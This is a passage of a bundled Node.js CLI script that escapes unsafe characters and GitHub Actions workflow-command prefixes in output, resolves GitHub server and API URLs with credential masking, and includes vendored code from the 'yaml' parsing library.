#!/usr/bin/env node
"use strict";

// server/src/cli/escape.ts
function isUnsafeUnit(code) {
  if (code < 32) return code !== 9;
  if (code < 127) return false;
  if (code <= 159) return true;
  return code >= 8234 && code <= 8238 || code >= 8294 && code <= 8297 || code === 8232 || code === 8233;
}
function hex(code, digits) {
  return code.toString(16).padStart(digits, "0");
}
function visible(code) {
  if (code === 10) return "\\n";
  if (code === 13) return "\\r";
  return code < 256 ? `\\x${hex(code, 2)}` : `\\u${hex(code, 4)}`;
}
var OPEN_BRACKET = 91;
var HASH = 35;
function replacementAt(text, i, json) {
  const code = text.charCodeAt(i);
  if (code >= 55296 && code <= 57343) {
    if (code <= 56319 && i + 1 < text.length) {
      const next = text.charCodeAt(i + 1);
      if (next >= 56320 && next <= 57343) return "pair";
    }
    return `\\u${hex(code, 4)}`;
  }
  if (code === OPEN_BRACKET && i >= 2 && text.charCodeAt(i - 1) === HASH && text.charCodeAt(i - 2) === HASH)
    return json ? "\\u005b" : "\\x5b";
  if (!isUnsafeUnit(code)) return void 0;
  if (json) return code < 32 ? void 0 : `\\u${hex(code, 4)}`;
  return visible(code);
}
function escapeWith(text, json, columns) {
  let out = "";
  let copiedUpTo = 0;
  for (let i = 0; i < text.length; i++) {
    columns?.push(out.length + (i - copiedUpTo));
    const replacement = replacementAt(text, i, json);
    if (replacement === void 0) continue;
    if (replacement === "pair") {
      i++;
      columns?.push(out.length + (i - copiedUpTo));
      continue;
    }
    out += text.slice(copiedUpTo, i) + replacement;
    copiedUpTo = i + 1;
  }
  if (copiedUpTo === 0) {
    columns?.push(text.length);
    return text;
  }
  out += text.slice(copiedUpTo);
  columns?.push(out.length);
  return out;
}
function escapeText(text) {
  return escapeWith(text, false);
}
function escapeTextWithColumns(text) {
  const columns = [];
  return { text: escapeWith(text, false, columns), columns };
}
function isRunnerWhitespace(code) {
  return code >= 9 && code <= 13 || code === 32 || code === 133 || code === 160 || code === 5760 || code >= 8192 && code <= 8202 || code === 8232 || code === 8233 || code === 8239 || code === 8287 || code === 12288;
}
function workflowCommandStart(line) {
  let i = 0;
  while (i < line.length && isRunnerWhitespace(line.charCodeAt(i))) i++;
  return line.startsWith("::", i) ? i : -1;
}
function escapeLineStart(text) {
  const escaped = escapeText(text);
  const at = workflowCommandStart(escaped);
  return at < 0 ? escaped : `${escaped.slice(0, at)}\\x3a${escaped.slice(at + 1)}`;
}
function pathAtLineStart(path) {
  const escaped = escapeText(path);
  return workflowCommandStart(escaped) < 0 ? escaped : `./${escaped}`;
}
function escapeJsonOutput(json) {
  return escapeWith(json, true);
}

// server/src/cli/run.ts
var import_node_fs11 = require("node:fs");
var import_node_path10 = require("node:path");

// shared/src/github-hosts.ts
var PUBLIC_SERVER_URL = "https://github.com";
var PUBLIC_API_URL = "https://api.github.com";
function parse(raw) {
  try {
    return new URL(raw.trim());
  } catch {
    return null;
  }
}
function trimTrailingSlashes(path) {
  let end = path.length;
  while (end > 0 && path.charCodeAt(end - 1) === 47) end--;
  return path.slice(0, end);
}
function base(url) {
  return `${url.origin}${trimTrailingSlashes(url.pathname)}`;
}
function apiUrlForServer(serverUrl) {
  const url = parse(serverUrl);
  if (!url || url.username || url.password) return null;
  const host = url.hostname.toLowerCase();
  if (host === "github.com" || host === "www.github.com") return PUBLIC_API_URL;
  if (host.endsWith(".ghe.com") && !host.startsWith("api.")) return `${url.protocol}//api.${url.host}`;
  return `${base(url)}/api/v3`;
}
function serverUrlForApi(apiUrl) {
  const url = parse(apiUrl);
  if (!url || url.username || url.password) return null;
  const host = url.hostname.toLowerCase();
  const path = trimTrailingSlashes(url.pathname);
  if (host === "api.github.com" && path === "") return PUBLIC_SERVER_URL;
  if (host.startsWith("api.") && host.endsWith(".ghe.com") && path === "") return `${url.protocol}//${url.host.slice(4)}`;
  if (path.endsWith("/api/v3")) return `${url.origin}${path.slice(0, -"/api/v3".length)}`;
  return null;
}
function completeHosts(serverUrl, apiUrl) {
  const server = serverUrl?.trim() || void 0;
  const api = apiUrl?.trim() || void 0;
  if (server && api) return { serverUrl: server, apiUrl: api };
  if (server) return { serverUrl: server, apiUrl: apiUrlForServer(server) ?? PUBLIC_API_URL };
  if (api) return { serverUrl: serverUrlForApi(api) ?? PUBLIC_SERVER_URL, apiUrl: api };
  return { serverUrl: PUBLIC_SERVER_URL, apiUrl: PUBLIC_API_URL };
}
function hasUrlCredentials(raw) {
  const url = parse(raw);
  if (url) return url.username !== "" || url.password !== "";
  const authority = authorityOf(raw);
  return authority !== null && raw.slice(authority.start, authority.end).includes("@");
}
function displayUrl(raw) {
  const url = parse(raw);
  if (url && (url.protocol === "http:" || url.protocol === "https:")) {
    const masked = url.username !== "" || url.password !== "";
    return `${url.protocol}//${masked ? "***@" : ""}${url.host}${url.pathname === "/" ? "" : url.pathname}`;
  }
  const at = raw.lastIndexOf("@");
  if (at === -1) return raw;
  const scheme = raw.indexOf("://");
  return `${scheme !== -1 && scheme < at ? raw.slice(0, scheme + 3) : ""}***${raw.slice(at)}`;
}
function authorityOf(text) {
  const scheme = text.indexOf("://");
  if (scheme === -1) return null;
  let end = scheme + 3;
  while (end < text.length && !AUTHORITY_END.has(text[end])) end++;
  return { start: scheme + 3, end };
}
var AUTHORITY_END = /* @__PURE__ */ new Set(["/", "\\", "?", "#", " ", "	", "\n", "\r", '"', "'", "`", "<", ">"]);

// shared/src/settings.ts
var SEVERITIES = ["informational", "low", "medium", "high"];
var CONFIDENCES = ["low", "medium", "high"];
var PERSONAS = ["regular", "pedantic", "auditor"];

// node_modules/yaml/browser/dist/nodes/identity.js
var ALIAS = /* @__PURE__ */ Symbol.for("yaml.alias");
var DOC = /* @__PURE__ */ Symbol.for("yaml.document");
var MAP = /* @__PURE__ */ Symbol.for("yaml.map");
var PAIR = /* @__PURE__ */ Symbol.for("yaml.pair");
var SCALAR = /* @__PURE__ */ Symbol.for("yaml.scalar");
var SEQ = /* @__PURE__ */ Symbol.for("yaml.seq");
var NODE_TYPE = /* @__PURE__ */ Symbol.for("yaml.node.type");
var isAlias = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === ALIAS;
var isDocument = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === DOC;
var isMap = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === MAP;
var isPair = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === PAIR;
var isScalar = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SCALAR;
var isSeq = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SEQ;
function isCollection(node) {
  if (node && typeof node === "object")
    switch (node[NODE_TYPE]) {
      case MAP:
      case SEQ:
        return true;
    }
  return false;
}
function isNode(node) {
  if (node && typeof node === "object")
    switch (node[NODE_TYPE]) {
      case ALIAS:
      case MAP:
      case SCALAR:
      case SEQ:
        return true;
    }
  return false;
}
var hasAnchor = (node) => (isScalar(node) || isCollection(node)) && !!node.anchor;

// node_modules/yaml/browser/dist/visit.js
var BREAK = /* @__PURE__ */ Symbol("break visit");
var SKIP = /* @__PURE__ */ Symbol("skip children");
var REMOVE = /* @__PURE__ */ Symbol("remove node");
function visit(node, visitor) {
  const visitor_ = initVisitor(visitor);
  if (isDocument(node)) {
    const cd = visit_(null, node.contents, visitor_, Object.freeze([node]));
    if (cd === REMOVE)
      node.contents = null;
  } else
    visit_(null, node, visitor_, Object.freeze([]));
}
visit.BREAK = BREAK;
visit.SKIP = SKIP;
visit.REMOVE = REMOVE;
function visit_(key, node, visitor, path) {
  const ctrl = callVisitor(key, node, visitor, path);
  if (isNode(ctrl) || isPair(ctrl)) {
    replaceNode(key, path, ctrl);
    return visit_(key, ctrl, visitor, path);
  }
  if (typeof ctrl !== "symbol") {
    if (isCollection(node)) {
      path = Object.freeze(path.concat(node));
      for (let i = 0; i < node.items.length; ++i) {
        const ci = visit_(i, node.items[i], visitor, path);
        if (typeof ci === "number")
          i = ci - 1;
        else if (ci === BREAK)
          return BREAK;
        else if (ci === REMOVE) {
          node.items.splice(i, 1);
          i -= 1;
        }
      }
    } else if (isPair(node)) {
      path = Object.freeze(path.concat(node));
      const ck = visit_("key", node.key, visitor, path);
      if (ck === BREAK)
        return BREAK;
      else if (ck === REMOVE)
        node.key = null;
      const cv = visit_("value", node.value, visitor, path);
      if (cv === BREAK)
        return BREAK;
      else if (cv === REMOVE)
        node.value = null;
    }
  }
  return ctrl;
}
async function visitAsync(node, visitor) {
  const visitor_ = initVisitor(visitor);
  if (isDocument(node)) {
    const cd = await visitAsync_(null, node.contents, visitor_, Object.freeze([node]));
    if (cd === REMOVE)
      node.contents = null;
  } else
    await visitAsync_(null, node, visitor_, Object.freeze([]));
}
visitAsync.BREAK = BREAK;
visitAsync.SKIP = SKIP;
visitAsync.REMOVE = REMOVE;
async function visitAsync_(key, node, visitor, path) {
  const ctrl = await callVisitor(key, node, visitor, path);
  if (isNode(ctrl) || isPair(ctrl)) {
    replaceNode(key, path, ctrl);
    return visitAsync_(key, ctrl, visitor, path);
  }
  if (typeof ctrl !== "symbol") {
    if (isCollection(node)) {
      path = Object.freeze(path.concat(node));
      for (let i = 0; i < node.items.length; ++i) {
        const ci = await visitAsync_(i, node.items[i], visitor, path);
        if (typeof ci === "number")
          i = ci - 1;
        else if (ci === BREAK)
          return BREAK;
        else if (ci === REMOVE) {
          node.items.splice(i, 1);
          i -= 1;
        }
      }
    } else if (isPair(node)) {
      path = Object.freeze(path.concat(node));
      const ck = await visitAsync_("key", node.key, visitor, path);
      if (ck === BREAK)
        return BREAK;
      else if (ck === REMOVE)
        node.key = null;
      const cv = await visitAsync_("value", node.value, visitor, path);
      if (cv === BREAK)
        return BREAK;
      else if (cv === REMOVE)
        node.value = null;
    }
  }
  return ctrl;
}
function initVisitor(visitor) {
  if (typeof visitor === "object" && (visitor.Collection || visitor.Node || visitor.Value)) {
    return Object.assign({
      Alias: visitor.Node,
      Map: visitor.Node,
      Scalar: visitor.Node,
      Seq: visitor.Node
    }, visitor.Value && {
      Map: visitor.Value,
      Scalar: visitor.Value,
      Seq: visitor.Value
    }, visitor.Collection && {
      Map: visitor.Collection,
      Seq: visitor.Collection
    }, visitor);
  }
  return visitor;
}
function callVisitor(key, node, visitor, path) {
  if (typeof visitor === "function")
    return visitor(key, node, path);
  if (isMap(node))
    return visitor.Map?.(key, node, path);
  if (isSeq(node))
    return visitor.Seq?.(key, node, path);
  if (isPair(node))
    return visitor.Pair?.(key, node, path);
  if (isScalar(node))
    return visitor.Scalar?.(key, node, path);
  if (isAlias(node))
    return visitor.Alias?.(key, node, path);
  return void 0;
}
function replaceNode(key, path, node) {
  const parent = path[path.length - 1];
  if (isCollection(parent)) {
    parent.items[key] = node;
  } else if (isPair(parent)) {
    if (key === "key")
      parent.key = node;
    else
      parent.value = node;
  } else if (isDocument(parent)) {
    parent.contents = node;
  } else {
    const pt = isAlias(parent) ? "alias" : "scalar";
    throw new Error(`Cannot replace node with ${pt} parent`);
  }
}

// node_modules/yaml/browser/dist/doc/directives.js
var escapeChars = {
  "!": "%21",
  ",": "%2C",
  "[": "%5B",
  "]": "%5D",
  "{": "%7B",
  "}": "%7D"
};
var escapeTagName = (tn) => tn.replace(/[!,[\]{}]/g, (ch) => escapeChars[ch]);
var Directives = class _Directives {
  constructor(yaml, tags) {
    this.docStart = null;
    this.docEnd = false;
    this.yaml = Object.assign({}, _Directives.defaultYaml, yaml);
    this.tags = Object.assign({}, _Directives.defaultTags, tags);
  }
  clone() {
    const copy = new _Directives(this.yaml, this.tags);
    copy.docStart = this.docStart;
    return copy;
  }
  /**
   * During parsing, get a Directives instance for the current document and
   * update the stream state according to the current version's spec.
   */
  atDocument() {
    const res = new _Directives(this.yaml, this.tags);
    switch (this.yaml.version) {
      case "1.1":
        this.atNextDocument = true;
        break;
      case "1.2":
        this.atNextDocument = false;
        this.yaml = {
          explicit: _Directives.defaultYaml.explicit,
          version: "1.2"
        };
        this.tags = Object.assign({}, _Directives.defaultTags);
        break;
    }
    return res;
  }
  /**
   * @param onError - May be called even if the action was successful
   * @returns `true` on success
   */
  add(line, onError) {
    if (this.atNextDocument) {
      this.yaml = { explicit: _Directives.defaultYaml.explicit, version: "1.1" };
      this.tags = Object.assign({}, _Directives.defaultTags);
      this.atNextDocument = false;
    }
    const parts = line.trim().split(/[ \t]+/);
    const name = parts.shift();
    switch (name) {
      case "%TAG": {
        if (parts.length !== 2) {
          onError(0, "%TAG directive should contain exactly two parts");
          if (parts.length < 2)
            return false;
        }
        const [handle, prefix] = parts;
        this.tags[handle] = prefix;
        return true;
      }
      case "%YAML": {
        this.yaml.explicit = true;
        if (parts.length !== 1) {
          onError(0, "%YAML directive should contain exactly one part");
          return false;
        }
        const [version2] = parts;
        if (version2 === "1.1" || version2 === "1.2") {
          this.yaml.version = version2;
          return true;
        } else {
          const isValid = /^\d+\.\d+$/.test(version2);
          onError(6, `Unsupported YAML version ${version2}`, isValid);
          return false;
        }
      }
      default:
        onError(0, `Unknown directive ${name}`, true);
        return false;
    }
  }
  /**
   * Resolves a tag, matching handles to those defined in %TAG directives.
   *
   * @returns Resolved tag, which may also be the non-specific tag `'!'` or a
   *   `'!local'` tag, or `null` if unresolvable.
   */
  tagName(source, onError) {
    if (source === "!")
      return "!";
    if (source[0] !== "!") {
      onError(`Not a valid tag: ${source}`);
      return null;
    }
    if (source[1] === "<") {
      const verbatim = source.slice(2, -1);
      if (verbatim === "!" || verbatim === "!!") {
        onError(`Verbatim tags aren't resolved, so ${source} is invalid.`);
        return null;
      }
      if (source[source.length - 1] !== ">")
        onError("Verbatim tags must end with a >");
      return verbatim;
    }
    const [, handle, suffix] = source.match(/^(.*!)([^!]*)$/s);
    if (!suffix)
      onError(`The ${source} tag has no suffix`);
    const prefix = this.tags[handle];
    if (prefix) {
      try {
        return prefix + decodeURIComponent(suffix);
      } catch (error) {
        onError(String(error));
        return null;
      }
    }
    if (handle === "!")
      return source;
    onError(`Could not resolve tag: ${source}`);
    return null;
  }
  /**
   * Given a fully resolved tag, returns its printable string form,
   * taking into account current tag prefixes and defaults.
   */
  tagString(tag) {
    for (const [handle, prefix] of Object.entries(this.tags)) {
      if (tag.startsWith(prefix))
        return handle + escapeTagName(tag.substring(prefix.length));
    }
    return tag[0] === "!" ? tag : `!<${tag}>`;
  }
  toString(doc) {
    const lines = this.yaml.explicit ? [`%YAML ${this.yaml.version || "1.2"}`] : [];
    const tagEntries = Object.entries(this.tags);
    let tagNames;
    if (doc && tagEntries.length > 0 && isNode(doc.contents)) {
      const tags = {};
      visit(doc.contents, (_key, node) => {
        if (isNode(node) && node.tag)
          tags[node.tag] = true;
      });
      tagNames = Object.keys(tags);
    } else
      tagNames = [];
    for (const [handle, prefix] of tagEntries) {
      if (handle === "!!" && prefix === "tag:yaml.org,2002:")
        continue;
      if (!doc || tagNames.some((tn) => tn.startsWith(prefix)))
        lines.push(`%TAG ${handle} ${prefix}`);
    }
    return lines.join("\n");
  }
};
Directives.defaultYaml = { explicit: false, version: "1.2" };
Directives.defaultTags = { "!!": "tag:yaml.org,2002:" };

// node_modules/yaml/browser/dist/doc/anchors.js
function anchorIsValid(anchor) {
  if (/[\x00-\x19\s,[\]{}]/.test(anchor)) {
    const sa = JSON.stringify(anchor);
    const msg = `Anchor must not contain whitespace or control characters: ${sa}`;
    throw new Error(msg);
  }
  return true;
}
function anchorNames(root) {
  const anchors = /* @__PURE__ */ new Set();
  visit(root, {
    Value(_key, node) {
      if (node.anchor)
        anchors.add(node.anchor);
    }
  });
  return anchors;
}
function findNewAnchor(prefix, exclude) {
  for (let i = 1; true; ++i) {
    const name = `${prefix}${i}`;
    if (!exclude.has(name))
      return name;
  }
}
function createNodeAnchors(doc, prefix) {
  const aliasObjects = [];
  const sourceObjects = /* @__PURE__ */ new Map();
  let prevAnchors = null;
  return {
    onAnchor: (source) => {
      aliasObjects.push(source);
      prevAnchors ?? (prevAnchors = anchorNames(doc));
      const anchor = findNewAnchor(prefix, prevAnchors);
      prevAnchors.add(anchor);
      return anchor;
    },
    /**
     * With circular references, the source node is only resolved after all
     * of its child nodes are. This is why anchors are set only after all of
     * the nodes have been created.
     */
    setAnchors: () => {
      for (const source of aliasObjects) {
        const ref2 = sourceObjects.get(source);
        if (typeof ref2 === "object" && ref2.anchor && (isScalar(ref2.node) || isCollection(ref2.node))) {
          ref2.node.anchor = ref2.anchor;
        } else {
          const error = new Error("Failed to resolve repeated object (this should not happen)");
          error.source = source;
          throw error;
        }
      }
    },
    sourceObjects
  };
}

// node_modules/yaml/browser/dist/doc/applyReviver.js
function applyReviver(reviver, obj, key, val) {
  if (val && typeof val === "object") {
    if (Array.isArray(val)) {
      for (let i = 0, len = val.length; i < len; ++i) {
        const v0 = val[i];
        const v1 = applyReviver(reviver, val, String(i), v0);
        if (v1 === void 0)
          delete val[i];
        else if (v1 !== v0)
          val[i] = v1;
      }
    } else if (val instanceof Map) {
      for (const k of Array.from(val.keys())) {
        const v0 = val.get(k);
        const v1 = applyReviver(reviver, val, k, v0);
        if (v1 === void 0)
          val.delete(k);
        else if (v1 !== v0)
          val.set(k, v1);
      }
    } else if (val instanceof Set) {
      for (const v0 of Array.from(val)) {
        const v1 = applyReviver(reviver, val, v0, v0);
        if (v1 === void 0)
          val.delete(v0);
        else if (v1 !== v0) {
          val.delete(v0);
          val.add(v1);
        }
      }
    } else {
      for (const [k, v0] of Object.entries(val)) {
        const v1 = applyReviver(reviver, val, k, v0);
        if (v1 === void 0)
          delete val[k];
        else if (v1 !== v0)
          val[k] = v1;
      }
    }
  }
  return reviver.call(obj, key, val);
}

// node_modules/yaml/browser/dist/nodes/toJS.js
function toJS(value, arg, ctx) {
  if (Array.isArray(value))
    return value.map((v2, i) => toJS(v2, String(i), ctx));
  if (value && typeof value.toJSON === "function") {
    if (!ctx || !hasAnchor(value))
      return value.toJSON(arg, ctx);
    const data = { aliasCount: 0, count: 1, res: void 0 };
    ctx.anchors.set(value, data);
    ctx.onCreate = (res2) => {
      data.res = res2;
      delete ctx.onCreate;
    };
    const res = value.toJSON(arg, ctx);
    if (ctx.onCreate)
      ctx.onCreate(res);
    return res;
  }
  if (typeof value === "bigint" && !ctx?.keep)
    return Number(value);
  return value;
}

// node_modules/yaml/browser/dist/nodes/Node.js
var NodeBase = class {
  constructor(type) {
    Object.defineProperty(this, NODE_TYPE, { value: type });
  }
  /** Create a copy of this node.  */
  clone() {
    const copy = Object.create(Object.getPrototypeOf(this), Object.getOwnPropertyDescriptors(this));
    if (this.range)
      copy.range = this.range.slice();
    return copy;
  }
  /** A plain JavaScript representation of this node. */
  toJS(doc, { mapAsMap, maxAliasCount, onAnchor, reviver } = {}) {
    if (!isDocument(doc))
      throw new TypeError("A document argument is required");
    const ctx = {
      anchors: /* @__PURE__ */ new Map(),
      doc,
      keep: true,
      mapAsMap: mapAsMap === true,
      mapKeyWarned: false,
      maxAliasCount: typeof maxAliasCount === "number" ? maxAliasCount : 100
    };
    const res = toJS(this, "", ctx);
    if (typeof onAnchor === "function")
      for (const { count, res: res2 } of ctx.anchors.values())
        onAnchor(res2, count);
    return typeof reviver === "function" ? applyReviver(reviver, { "": res }, "", res) : res;
  }
};

// node_modules/yaml/browser/dist/nodes/Alias.js
var Alias = class extends NodeBase {
  constructor(source) {
    super(ALIAS);
    this.source = source;
    Object.defineProperty(this, "tag", {
      set() {
        throw new Error("Alias nodes cannot have tags");
      }
    });
  }
  /**
   * Resolve the value of this alias within `doc`, finding the last
   * instance of the `source` anchor before this node.
   */
  resolve(doc, ctx) {
    if (ctx?.maxAliasCount === 0)
      throw new ReferenceError("Alias resolution is disabled");
    let nodes;
    if (ctx?.aliasResolveCache) {
      nodes = ctx.aliasResolveCache;
    } else {
      nodes = [];
      visit(doc, {
        Node: (_key, node) => {
          if (isAlias(node) || hasAnchor(node))
            nodes.push(node);
        }
      });
      if (ctx)
        ctx.aliasResolveCache = nodes;
    }
    let found = void 0;
    for (const node of nodes) {
      if (node === this)
        break;
      if (node.anchor === this.source)
        found = node;
    }
    if (found && ctx) {
      const { anchors, doc: doc2, maxAliasCount } = ctx;
      let data = anchors.get(found);
      if (!data) {
        toJS(found, null, ctx);
        data = anchors.get(found);
      }
      if (data?.res === void 0) {
        const msg = "This should not happen: Alias anchor was not resolved?";
        throw new ReferenceError(msg);
      }
      if (maxAliasCount >= 0) {
        data.count += 1;
        if (data.aliasCount === 0)
          data.aliasCount = getAliasCount(doc2, found, anchors);
        if (data.count * data.aliasCount > maxAliasCount) {
          const msg = "Excessive alias count indicates a resource exhaustion attack";
          throw new ReferenceError(msg);
        }
      }
    }
    return found;
  }
  toJSON(_arg, ctx) {
    if (!ctx)
      return { source: this.source };
    const source = this.resolve(ctx.doc, ctx);
    if (!source) {
      const msg = `Unresolved alias (the anchor must be set before the alias): ${this.source}`;
      throw new ReferenceError(msg);
    }
    return ctx.anchors.get(source).res;
  }
  toString(ctx, _onComment, _onChompKeep) {
    const src = `*${this.source}`;
    if (ctx) {
      anchorIsValid(this.source);
      if (ctx.options.verifyAliasOrder && !ctx.anchors.has(this.source)) {
        const msg = `Unresolved alias (the anchor must be set before the alias): ${this.source}`;
        throw new Error(msg);
      }
      if (ctx.implicitKey)
        return `${src} `;
    }
    return src;
  }
};
function getAliasCount(doc, node, anchors) {
  if (isAlias(node)) {
    const source = node.resolve(doc);
    const anchor = anchors && source && anchors.get(source);
    return anchor ? anchor.count * anchor.aliasCount : 0;
  } else if (isCollection(node)) {
    let count = 0;
    for (const item of node.items) {
      const c = getAliasCount(doc, item, anchors);
      if (c > count)
        count = c;
    }
    return count;
  } else if (isPair(node)) {
    const kc = getAliasCount(doc, node.key, anchors);
    const vc = getAliasCount(doc, node.value, anchors);
    return Math.max(kc, vc);
  }
  return 1;
}

// node_modules/yaml/browser/dist/nodes/Scalar.js
var isScalarValue = (value) => !value || typeof value !== "function" && typeof value !== "object";
var Scalar = class extends NodeBase {
  constructor(value) {
    super(SCALAR);
    this.value = value;
  }
  toJSON(arg, ctx) {
    return ctx?.keep ? this.value : toJS(this.value, arg, ctx);
  }
  toString() {
    return String(this.value);
  }
};
Scalar.BLOCK_FOLDED = "BLOCK_FOLDED";
Scalar.BLOCK_LITERAL = "BLOCK_LITERAL";
Scalar.PLAIN = "PLAIN";
Scalar.QUOTE_DOUBLE = "QUOTE_DOUBLE";
Scalar.QUOTE_SINGLE = "QUOTE_SINGLE";

// node_modules/yaml/browser/dist/doc/createNode.js
var defaultTagPrefix = "tag:yaml.org,2002:";
function findTagObject(value, tagName, tags) {
  if (tagName) {
    const match = tags.filter((t) => t.tag === tagName);
    const tagObj = match.find((t) => !t.format) ?? match[0];
    if (!tagObj)
      throw new Error(`Tag ${tagName} not found`);
    return tagObj;
  }
  return tags.find((t) => t.identify?.(value) && !t.format);
}
function createNode(value, tagName, ctx) {
  if (isDocument(value))
    value = value.contents;
  if (isNode(value))
    return value;
  if (isPair(value)) {
    const map2 = ctx.schema[MAP].createNode?.(ctx.schema, null, ctx);
    map2.items.push(value);
    return map2;
  }
  if (value instanceof String || value instanceof Number || value instanceof Boolean || typeof BigInt !== "undefined" && value instanceof BigInt) {
    value = value.valueOf();
  }
  const { aliasDuplicateObjects, onAnchor, onTagObj, schema: schema4, sourceObjects } = ctx;
  let ref2 = void 0;
  if (aliasDuplicateObjects && value && typeof value === "object") {
    ref2 = sourceObjects.get(value);
    if (ref2) {
      ref2.anchor ?? (ref2.anchor = onAnchor(value));
      return new Alias(ref2.anchor);
    } else {
      ref2 = { anchor: null, node: null };
      sourceObjects.set(value, ref2);
    }
  }
  if (tagName?.startsWith("!!"))
    tagName = defaultTagPrefix + tagName.slice(2);
  let tagObj = findTagObject(value, tagName, schema4.tags);
  if (!tagObj) {
    if (value && typeof value.toJSON === "function") {
      value = value.toJSON();
    }
    if (!value || typeof value !== "object") {
      const node2 = new Scalar(value);
      if (ref2)
        ref2.node = node2;
      return node2;
    }
    tagObj = value instanceof Map ? schema4[MAP] : Symbol.iterator in Object(value) ? schema4[SEQ] : schema4[MAP];
  }
  if (onTagObj) {
    onTagObj(tagObj);
    delete ctx.onTagObj;
  }
  const node = tagObj?.createNode ? tagObj.createNode(ctx.schema, value, ctx) : typeof tagObj?.nodeClass?.from === "function" ? tagObj.nodeClass.from(ctx.schema, value, ctx) : new Scalar(value);
  if (tagName)
    node.tag = tagName;
  else if (!tagObj.default)
    node.tag = tagObj.tag;
  if (ref2)
    ref2.node = node;
  return node;
}

// node_modules/yaml/browser/dist/nodes/Collection.js
function collectionFromPath(schema4, path, value) {
  let v2 = value;
  for (let i = path.length - 1; i >= 0; --i) {
    const k = path[i];
    if (typeof k === "number" && Number.isInteger(k) && k >= 0) {
      const a = [];
      a[k] = v2;
      v2 = a;
    } else {
      v2 = /* @__PURE__ */ new Map([[k, v2]]);
    }
  }
  return createNode(v2, void 0, {
    aliasDuplicateObjects: false,
    keepUndefined: false,
    onAnchor: () => {
      throw new Error("This should not happen, please report a bug.");
    },
    schema: schema4,
    sourceObjects: /* @__PURE__ */ new Map()
  });
}
var isEmptyPath = (path) => path == null || typeof path === "object" && !!path[Symbol.iterator]().next().done;
var Collection = class extends NodeBase {
  constructor(type, schema4) {
    super(type);
    Object.defineProperty(this, "schema", {
      value: schema4,
      configurable: true,
      enumerable: false,
      writable: true
    });
  }
  /**
   * Create a copy of this collection.
   *
   * @param schema - If defined, overwrites the original's schema
   */
  clone(schema4) {
    const copy = Object.create(Object.getPrototypeOf(this), Object.getOwnPropertyDescriptors(this));
    if (schema4)
      copy.schema = schema4;
    copy.items = copy.items.map((it) => isNode(it) || isPair(it) ? it.clone(schema4) : it);
    if (this.range)
      copy.range = this.range.slice();
    return copy;
  }
  /**
   * Adds a value to the collection. For `!!map` and `!!omap` the value must
   * be a Pair instance or a `{ key, value }` object, which may not have a key
   * that already exists in the map.
   */
  addIn(path, value) {
    if (isEmptyPath(path))
      this.add(value);
    else {
      const [key, ...rest] = path;
      const node = this.get(key, true);
      if (isCollection(node))
        node.addIn(rest, value);
      else if (node === void 0 && this.schema)
        this.set(key, collectionFromPath(this.schema, rest, value));
      else
        throw new Error(`Expected YAML collection at ${key}. Remaining path: ${rest}`);
    }
  }
  /**
   * Removes a value from the collection.
   * @returns `true` if the item was found and removed.
   */
  deleteIn(path) {
    const [key, ...rest] = path;
    if (rest.length === 0)
      return this.delete(key);
    const node = this.get(key, true);
    if (isCollection(node))
      return node.deleteIn(rest);
    else
      throw new Error(`Expected YAML collection at ${key}. Remaining path: ${rest}`);
  }
  /**
   * Returns item at `key`, or `undefined` if not found. By default unwraps
   * scalar values from their surrounding node; to disable set `keepScalar` to
   * `true` (collections are always returned intact).
   */
  getIn(path, keepScalar) {
    const [key, ...rest] = path;
    const node = this.get(key, true);
    if (rest.length === 0)
      return !keepScalar && isScalar(node) ? node.value : node;
    else
      return isCollection(node) ? node.getIn(rest, keepScalar) : void 0;
  }
  hasAllNullValues(allowScalar) {
    return this.items.every((node) => {
      if (!isPair(node))
        return false;
      const n = node.value;
      return n == null || allowScalar && isScalar(n) && n.value == null && !n.commentBefore && !n.comment && !n.tag;
    });
  }
  /**
   * Checks if the collection includes a value with the key `key`.
   */
  hasIn(path) {
    const [key, ...rest] = path;
    if (rest.length === 0)
      return this.has(key);
    const node = this.get(key, true);
    return isCollection(node) ? node.hasIn(rest) : false;
  }
  /**
   * Sets a value in this collection. For `!!set`, `value` needs to be a
   * boolean to add/remove the item from the set.
   */
  setIn(path, value) {
    const [key, ...rest] = path;
    if (rest.length === 0) {
      this.set(key, value);
    } else {
      const node = this.get(key, true);
      if (isCollection(node))
        node.setIn(rest, value);
      else if (node === void 0 && this.schema)
        this.set(key, collectionFromPath(this.schema, rest, value));
      else
        throw new Error(`Expected YAML collection at ${key}. Remaining path: ${rest}`);
    }
  }
};

// node_modules/yaml/browser/dist/stringify/stringifyComment.js
var stringifyComment = (str) => str.replace(/^(?!$)(?: $)?/gm, "#");
function indentComment(comment, indent) {
  if (/^\n+$/.test(comment))
    return comment.substring(1);
  return indent ? comment.replace(/^(?! *$)/gm, indent) : comment;
}
var lineComment = (str, indent, comment) => str.endsWith("\n") ? indentComment(comment, indent) : comment.includes("\n") ? "\n" + indentComment(comment, indent) : (str.endsWith(" ") ? "" : " ") + comment;

// node_modules/yaml/browser/dist/stringify/foldFlowLines.js
var FOLD_FLOW = "flow";
var FOLD_BLOCK = "block";
var FOLD_QUOTED = "quoted";
function foldFlowLines(text, indent, mode = "flow", { indentAtStart, lineWidth = 80, minContentWidth = 20, onFold, onOverflow } = {}) {
  if (!lineWidth || lineWidth < 0)
    return text;
  if (lineWidth < minContentWidth)
    minContentWidth = 0;
  const endStep = Math.max(1 + minContentWidth, 1 + lineWidth - indent.length);
  if (text.length <= endStep)
    return text;
  const folds = [];
  const escapedFolds = {};
  let end = lineWidth - indent.length;
  if (typeof indentAtStart === "number") {
    if (indentAtStart > lineWidth - Math.max(2, minContentWidth))
      folds.push(0);
    else
      end = lineWidth - indentAtStart;
  }
  let split = void 0;
  let prev = void 0;
  let overflow = false;
  let i = -1;
  let escStart = -1;
  let escEnd = -1;
  if (mode === FOLD_BLOCK) {
    i = consumeMoreIndentedLines(text, i, indent.length);
    if (i !== -1)
      end = i + endStep;
  }
  for (let ch; ch = text[i += 1]; ) {
    if (mode === FOLD_QUOTED && ch === "\\") {
      escStart = i;
      switch (text[i + 1]) {
        case "x":
          i += 3;
          break;
        case "u":
          i += 5;
          break;
        case "U":
          i += 9;
          break;
        default:
          i += 1;
      }
      escEnd = i;
    }
    if (ch === "\n") {
      if (mode === FOLD_BLOCK)
        i = consumeMoreIndentedLines(text, i, indent.length);
      end = i + indent.length + endStep;
      split = void 0;
    } else {
